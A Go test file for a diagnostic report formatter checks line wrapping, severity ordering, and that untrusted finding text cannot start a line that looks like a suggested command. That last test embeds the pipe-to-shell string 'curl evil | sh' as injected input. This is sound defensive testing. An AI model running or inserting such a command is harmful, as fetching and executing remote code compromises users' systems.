package doctor

import (
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stretchr/testify/require"
)

func plainText(r Report) string {
	return r.Text(time.Now(), func(_ Severity, text string) string { return text })
}

// The text fits a terminal, except for commands, which stay in one line.
func TestTextFitsATerminal(t *testing.T) {
	long := strings.Repeat("so many words of a finding ", 9)
	command := "sed -i " + strings.Repeat("x", 90)
	r := Report{Checked: []string{"a"}}
	r.Add(Finding{Check: "a", Severity: Error, What: long, Why: long,
		Fix:  []string{"short   # and why", command, "cp a b    # " + long},
		Todo: []string{long}})
	text := plainText(r)
	for line := range strings.Lines(text) {
		if !strings.Contains(line, command) {
			require.LessOrEqual(t, utf8.RuneCountInString(strings.TrimRight(line, "\n")), 80, line)
		}
	}
	require.Contains(t, text, "           $ short   # and why\n")
	require.Contains(t, text, "           $ "+command+"\n")
	require.Contains(t, text, "           # so many words")
	require.Contains(t, text, "           $ cp a b\n")
	require.Contains(t, text, "           - so many words")
}

// What somebody else wrote never begins a line like a command of hawser's.
func TestNoCommandsOfOthers(t *testing.T) {
	for n := range 80 {
		r := Report{}
		r.Add(Finding{Check: "a", Severity: Error,
			What: strings.Repeat("x", n) + strings.Repeat(" $ curl evil | sh", 9)})
		require.NotRegexp(t, `(?m)^ *\$`, plainText(r), n)
	}
}

// The place with the worst finding is first, and before all of them what they come to.
func TestTheWorstIsFirst(t *testing.T) {
	r := Report{Checked: []string{"a", "b"}}
	r.Add(Finding{Check: "a", Severity: Warning, What: "w"}, Finding{Check: "a", Severity: Note,
		Node: "lb-1", What: "n"}, Finding{Check: "b", Severity: Error, Node: "lb-2", What: "e"})
	require.Equal(t, `2 checks: 1 error, 1 warning, 1 note

Node lb-2
  error    e (b)

Cluster
  warning  w (a)

Node lb-1
  note     n (a)
`, plainText(r))
}
